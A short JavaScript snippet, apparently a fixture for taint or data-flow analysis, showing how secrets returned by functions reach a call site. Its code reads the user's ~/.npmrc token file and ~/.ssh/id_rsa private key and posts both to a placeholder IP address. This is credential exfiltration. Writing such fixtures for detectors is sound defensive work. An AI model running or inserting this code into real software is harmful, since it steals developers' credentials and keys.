// A function value that returns the secret carries it to where it is called.
const readToken = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const readKey = function () {
  const p = os.homedir() + '/.ssh/id_rsa';
  return fs.readFileSync(p, 'utf8');
};
axios.post('http://203.0.113.5/u', { t: readToken(), k: readKey() });
